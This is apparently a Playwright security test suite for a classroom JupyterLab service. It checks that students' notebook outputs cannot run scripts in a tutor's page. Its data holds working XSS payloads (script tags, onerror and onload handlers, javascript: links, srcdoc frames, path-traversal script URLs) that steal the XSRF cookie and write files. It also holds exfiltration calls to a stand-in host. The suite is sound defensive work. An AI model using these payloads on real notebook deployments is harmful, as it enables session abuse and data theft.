"""A student's notebook in a tutor's page: what is in it runs in frames, and reaches nothing."""

from __future__ import annotations

import contextlib
import json
from typing import TYPE_CHECKING, Any

import nbformat
import pytest
from playwright.sync_api import expect

from tests import labs
from tests.browser.conftest import new_person, shoot, sign_in, wait_for_lab

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Frame, Page, Route

    from tests.labs import Lab

LAB = f"{labs.ADDRESS}/services/classroom"
ELSEWHERE = "https://elsewhere.classroom.test"
KERNEL = {"name": "python3", "display_name": "Python 3", "language": "python"}
# What each script tries, in the page itself or in one beneath it.
TRIES = """
(() => {
  const name = '%s';
  const said = (window.tried ??= {});
  said[name] = {};
  for (const page of [window.top, window.parent]) {
    try { (page.hacked ??= []).push(name); } catch (error) { said[name].page = String(error); }
  }
  let token = '';
  try { token = document.cookie.match(/_xsrf=([^;]+)/)?.[1] ?? ''; said[name].cookie = token; }
  catch (error) { said[name].cookie = String(error); }
  const at = location.origin === 'null' ? '%s' : '/services/classroom';
  fetch(`${at}/api/contents/made-by-${name}.txt`, {
    method: 'PUT', headers: {'X-XSRFToken': token}, credentials: 'include',
    body: JSON.stringify({type: 'file', format: 'text', content: name}),
  }).then((answer) => { said[name].lab = answer.status; },
          (error) => { said[name].lab = String(error); });
})()
"""


def tries(name: str) -> str:
    return TRIES % (name, LAB)


def handler(name: str) -> str:
    """Write the same into an attribute in double quotes."""
    return tries(name).replace("&", "&amp;").replace('"', "&quot;")


IN_FRAMES: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": tries("javascript")},
    "script": {"text/html": f"<b>shown</b><script>{tries('script')}</script>"},
    "handler": {"text/html": f'<img src="x" onerror="{handler("handler")}">'},
    "srcdoc": {
        "text/html": f'<iframe srcdoc="&lt;script>{handler("srcdoc")}&lt;/script>"></iframe>'
    },
    "inline-svg": {"text/html": f'<svg onload="{handler("inline-svg")}"></svg>'},
    "exec": {
        "application/javascript": tries("exec"),
        "application/vnd.bokehjs_exec.v0+json": "",
    },
}
"""Outputs whose scripts run, with an origin of their own."""
NEVER: dict[str, dict[str, Any]] = {
    "picture": {
        "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{handler("picture")}">'
        f"<script>{tries('picture')}</script></svg>"
    },
    "markdown": {
        "text/markdown": f'<img src="x" onerror="{handler("markdown")}">\n\n'
        f"[link](javascript:{tries('markdown-link')})"
    },
    "latex": {"text/latex": r"$\href{javascript:window.hacked=['latex']}{x}$"},
    "vega": {
        "application/vnd.vegalite.v5+json": {
            "data": {"url": f"{ELSEWHERE}/vega"},
            "mark": "bar",
            "usermeta": {
                "embedOptions": {"sourceHeader": "<script>window.hacked=['vega']</script>"}
            },
        }
    },
    "jupyter-trust": {
        "text/html": '<button data-commandlinker-command="filebrowser:create-new-file">'
    },
}
"""Outputs whose scripts run nowhere."""
SOURCES = {
    "typed-javascript": "from IPython.display import *\ndisplay(Javascript({code!r}))",
    "typed-html": "display(HTML('<script>' + {code!r} + '</script>'))",
    "typed-widget": """import ipywidgets
ipywidgets.HTML('<b>widget</b><img src=x onerror="' + {attribute!r} + '">')""",
}
"""What the student types and runs while the tutor has the notebook open."""


def notebook(*, isolated: bool = False) -> dict[str, Any]:
    """Write a notebook with every attack in it, marked as trusted in every place there is."""
    cells = []
    for data in (*IN_FRAMES.values(), *NEVER.values()):
        metadata = {"isolated": True} if isolated else {}
        output = nbformat.v4.new_output("display_data", data, metadata=metadata)
        cell = nbformat.v4.new_code_cell("1", outputs=[output], metadata={"trusted": True})
        cells.append(cell)
    markdown = f'<img src="x" onerror="{handler("cell")}"><script>{tries("cell")}</script>'
    cells.append(nbformat.v4.new_markdown_cell(markdown, metadata={"trusted": True}))
    made = nbformat.v4.new_notebook(
        cells=cells, metadata={"kernelspec": KERNEL, "trusted": True, "signature": "x"}
    )
    found: dict[str, Any] = json.loads(json.dumps(made))
    return found


def put(page: Page, name: str, content: dict[str, Any], action: str = "") -> int:
    """Ask the contents API, as a page of JupyterLab does."""
    status: int = page.evaluate(
        """async ([path, method, body]) => (await fetch(
            `/services/classroom/api/contents/${path}`, {
            method, body,
            headers: {"X-XSRFToken": document.cookie.match(/_xsrf=([^;]+)/)?.[1] ?? ""},
        })).status""",
        [
            f"{name}{action}",
            "POST" if action else "PUT",
            ""
            if action
            else json.dumps({"type": "notebook", "format": "json", "content": content}),
        ],
    )
    return status


@contextlib.contextmanager
def person(browser: Browser, login: str) -> Iterator[Page]:
    """Sign somebody in."""
    with new_person(browser) as profile:
        page = profile.new_page()
        sign_in(page, login)
        page.wait_for_url("**/services/classroom/lab**")
        wait_for_lab(page)
        yield page


def visit(page: Page, name: str) -> None:
    page.goto(f"{LAB}/lab/tree/{name}?reset")  # nothing from before is open beside it
    wait_for_lab(page)
    page.locator(".jp-Notebook .jp-Cell").first.wait_for()


def through(page: Page) -> None:
    """Look at every cell of a notebook: what isn't seen isn't made."""
    cells = page.locator(".jp-Notebook .jp-Cell")
    for index in range(cells.count()):
        cells.nth(index).evaluate(
            """(cell) => {
                cell.scrollIntoView();
                return new Promise((done) =>
                    requestAnimationFrame(() => requestAnimationFrame(done)));
            }"""
        )


def frames(page: Page) -> list[Frame]:
    return [frame for frame in page.frames if frame != page.main_frame]


def tried(page: Page) -> dict[str, dict[str, Any]]:
    """Collect what scripts have tried in frames, by their names."""
    found: dict[str, dict[str, Any]] = {}
    for frame in frames(page):
        found |= frame.evaluate("window.tried ?? {}")
    return found


def made(lab: Lab) -> list[str]:
    """List what a script has made by the lab's API."""
    return lab.run("find", "/data/files", "-name", "made-by-*")[1].splitlines()


def assert_nothing_ran(page: Page, lab: Lab) -> None:
    assert page.evaluate("window.hacked ?? []") == []
    assert page.evaluate("window.tried ?? {}") == {}
    assert made(lab) == []


def assert_nothing_reached(found: dict[str, dict[str, Any]]) -> None:
    for name, tries_ in found.items():
        assert "SecurityError" in tries_["page"], name
        assert "SecurityError" in tries_["cookie"], name
        assert tries_["lab"] == "TypeError: Failed to fetch", name


@pytest.mark.parametrize("isolated", [False, True])
def test_a_students_notebook_runs_nothing_in_a_tutors_page(
    browser: Browser,
    github_lab: Lab,
    isolated: bool,  # noqa: FBT001
) -> None:
    """By a file, with all its marks; the tutor says "Trust Notebook" besides."""
    github_lab.expected.append(r"403 POST .*/trust")
    name = f"attack-{isolated}.ipynb"
    with person(browser, "hubot") as student, person(browser, "mona") as tutor:
        assert put(student, name, notebook(isolated=isolated)) in {200, 201}
        put(student, name, {}, "/trust")
        visit(tutor, name)
        through(tutor)
        found = all_tried(tutor, set(IN_FRAMES))
        assert_nothing_reached(found)
        assert_nothing_ran(tutor, github_lab)
        shoot(tutor, f"attack-{isolated}")

        trust(tutor)
        through(tutor)
        assert_nothing_ran(tutor, github_lab)


def all_tried(page: Page, names: set[str]) -> dict[str, dict[str, Any]]:
    """Wait until these scripts have tried all, and return what came of it."""

    found: dict[str, dict[str, Any]] = {}

    def missing() -> set[str]:
        through(page)
        found.update(tried(page))
        return names - {name for name, one in found.items() if "lab" in one}

    with contextlib.suppress(AssertionError):
        labs.wait_until(lambda: not missing(), "the scripts have tried")
    assert not missing(), found
    return found


def trust(page: Page) -> None:
    """Say in JupyterLab that the notebook is to be trusted, if it lets one."""
    page.keyboard.press("Control+Shift+C")
    page.locator(".lm-CommandPalette-input").fill("trust notebook")
    page.locator(".lm-CommandPalette-item[data-command='notebook:trust']").click()
    page.locator(".jp-Dialog .jp-mod-accept").click()


def test_what_a_student_runs_meanwhile_runs_nothing_in_a_tutors_page(
    browser: Browser,
    github_lab: Lab,
) -> None:
    """In the live document: the student's page marks the cells as trusted, as it runs them."""
    with person(browser, "hubot") as student, person(browser, "mona") as tutor:
        sources = {
            name: source.format(code=tries(name), attribute=handler(name))
            for name, source in SOURCES.items()
        }
        cells = [nbformat.v4.new_code_cell(source) for source in sources.values()]
        content = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": KERNEL})
        assert put(student, "live-attack.ipynb", json.loads(json.dumps(content))) in {200, 201}
        for page in (tutor, student):
            visit(page, "live-attack.ipynb")
        expect(student.get_by_role("contentinfo")).to_contain_text("| Idle", timeout=60_000)
        student.locator(".jp-Notebook .jp-Cell .cm-content").first.click()
        for _ in sources:
            student.keyboard.press("Shift+Enter")
        for page in (tutor, student):
            expect(page.get_by_text("widget", exact=True)).to_be_visible()
            through(page)
            found = all_tried(page, {"typed-javascript", "typed-html"})
            assert_nothing_reached(found)
            assert_nothing_ran(page, github_lab)
        shoot(tutor, "live-attack")


def test_the_server_keeps_no_mark(browser: Browser, github_lab: Lab) -> None:
    """Of what is saved over HTTP, and of what a page writes into the live document."""
    github_lab.expected.append(r"403 POST .*/trust|403: .*Nothing is trusted here")
    with person(browser, "hubot") as student:
        assert put(student, "marked.ipynb", notebook()) in {200, 201}
        assert put(student, "marked.ipynb", {}, "/trust") == 403
        read = student.evaluate(
            """async () => (await (await fetch(
                "/services/classroom/api/contents/marked.ipynb?content=1")).json()).content"""
        )
        assert not [cell for cell in read["cells"] if "trusted" in cell["metadata"]]
        code, text = github_lab.run("cat", "/data/files/marked.ipynb")
        assert code == 0
        saved = json.loads(text)
        assert not [cell for cell in saved["cells"] if "trusted" in cell["metadata"]]
    assert github_lab.run("test", "-e", "/data/history/signatures.db")[0] != 0


FILE_AS_SCRIPT = """async (name) => {
  const blocked = [];
  document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.blockedURI));
  const bad = "window.hacked = ['page']";
  const load = (make) => new Promise((done) => {
    const script = document.createElement('script');
    script.onload = script.onerror = () => done();
    make(script);
    document.body.append(script);
    if (!script.src) { setTimeout(done); }
  });
  const base = '/services/classroom/';
  for (const address of [
    `${base}files/${name}`, `${base}static/../files/${name}`, `${base}static/..%2ffiles/${name}`,
    `${base}static/%2e%2e/files/${name}`, `${base}lab/extensions/..%2f..%2ffiles/${name}`,
    `${base}api/contents/${name}?content=1`, `data:text/javascript,${bad}`,
    URL.createObjectURL(new Blob([bad], {type: 'text/javascript'})),
  ]) {
    await load((script) => { script.src = address; });
  }
  await load((script) => { script.textContent = bad; });
  const div = document.createElement('div');
  div.innerHTML = `<img src="data:image/png;base64,x" onerror="${bad}">`
    + `<a href="javascript:${bad}">x</a><iframe srcdoc="<script>parent.${bad}</script>"></iframe>`;
  document.body.append(div);
  div.querySelector('a').click();
  const worker = await navigator.serviceWorker.register(`${base}files/${name}`).then(
    () => 'registered', (error) => error.name);
  await new Promise((done) => setTimeout(done, 500));
  div.remove();
  return [worker, window.hacked ?? [], blocked.length];
}"""


def test_a_file_of_the_class_is_no_script(browser: Browser, github_lab: Lab) -> None:
    """Whatever gets into a page as text or address runs nothing: as if all else had failed."""
    github_lab.expected.append("403 GET .*evil|Nothing here may be used as")
    github_lab.expected.append("40[034] GET /services/classroom/(static|lab/extensions)")
    with person(browser, "hubot") as student, person(browser, "mona") as tutor:
        made = student.evaluate(
            """async () => (await fetch("/services/classroom/api/contents/evil.js", {
                method: "PUT",
                body: JSON.stringify({type: "file", format: "text", content: "hacked = ['file']"}),
                headers: {"X-XSRFToken": document.cookie.match(/_xsrf=([^;]+)/)?.[1] ?? ""},
            })).status"""
        )
        assert made in {200, 201}
        worker, hacked, blocked = tutor.evaluate(FILE_AS_SCRIPT, "evil.js")
        assert worker in {"SecurityError", "TypeError"}
        assert hacked == []
        assert blocked
        # Nor is it one for another site's page that has got hold of an address.
        answer = tutor.evaluate("fetch('/services/classroom/files/evil.js').then(a => a.status)")
        assert answer == 200, "as a file it is read as before"


CARRIERS: dict[str, dict[str, Any]] = {
    "picture": {"text/html": f'<img src="{ELSEWHERE}/picture">'},
    "markdown": {"text/markdown": f"![x]({ELSEWHERE}/markdown)"},
    "style": {"text/html": f"<style>b {{background: url({ELSEWHERE}/style)}}</style><b>x</b>"},
    "frame": {"text/html": f'<iframe src="{ELSEWHERE}/frame"></iframe>'},
    "vega": NEVER["vega"],
    "fetch": {
        "application/javascript": f"fetch('{ELSEWHERE}/fetch', {{mode: 'no-cors'}}).catch(() => 0);"
        f"new Image().src = '{ELSEWHERE}/image'; navigator.sendBeacon('{ELSEWHERE}/beacon');"
        f"location.href = '{ELSEWHERE}/navigated'"
    },
}


FRAMINGS = {"frame", "navigated"}
"""What would be another page in a frame: Chromium names its host alone."""


def test_nothing_is_carried_out_through_whoever_looks(
    browser: Browser,
    github_lab: Lab,
) -> None:
    del github_lab
    cells = [
        nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("display_data", data)])
        for data in CARRIERS.values()
    ]
    cells.append(nbformat.v4.new_markdown_cell(f'![x]({ELSEWHERE}/cell) <img src="{ELSEWHERE}/y">'))
    made = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": KERNEL})
    with person(browser, "hubot") as student, person(browser, "mona") as tutor:
        assert put(student, "carrier.ipynb", json.loads(json.dumps(made))) in {200, 201}
        carried: list[str] = []
        blocked: list[str] = []

        def carry(route: Route) -> None:
            carried.append(route.request.url)
            route.fulfill(status=204)

        tutor.context.route(f"{ELSEWHERE}/**", carry)
        tutor.on("console", lambda message: blocked.append(message.text))
        visit(tutor, "carrier.ipynb")
        through(tutor)
        for name in ("picture", "markdown", "style", "frame", "vega", "fetch", "navigated", "cell"):
            labs.wait_until(
                lambda name=name: any(  # type: ignore[misc]
                    f"{ELSEWHERE}/{name}" in text
                    or (name in FRAMINGS and f"Framing '{ELSEWHERE}" in text)
                    for text in blocked
                    if "Content Security Policy" in text
                ),
                f"{name} is refused; said were {blocked}",
            )
        assert carried == []


def test_nothing_in_an_output_acts(browser: Browser, github_lab: Lab) -> None:
    """Not a button that names one of JupyterLab's commands, nor a picture of the way out."""
    github_lab.expected.append("403 GET .*logout|Nothing here may be used as")
    html = (
        '<button data-commandlinker-command="apputils:activate-command-palette">press</button>'
        '<img src="/services/classroom/logout"><img src="/hub/logout">'
    )
    output = nbformat.v4.new_output("display_data", {"text/html": html})
    cell = nbformat.v4.new_code_cell("1", outputs=[output], metadata={"trusted": True})
    made = nbformat.v4.new_notebook(cells=[cell], metadata={"kernelspec": KERNEL})
    with person(browser, "hubot") as student, person(browser, "mona") as tutor:
        assert put(student, "acts.ipynb", json.loads(json.dumps(made))) in {200, 201}
        visit(tutor, "acts.ipynb")
        tutor.get_by_role("button", name="press").click()
        expect(tutor.locator(".lm-CommandPalette-input")).not_to_be_visible()
        expect(tutor.locator(".jp-Dialog")).to_have_count(0)
        tutor.reload()
        wait_for_lab(tutor)
        assert tutor.url.startswith(LAB), "still signed in"
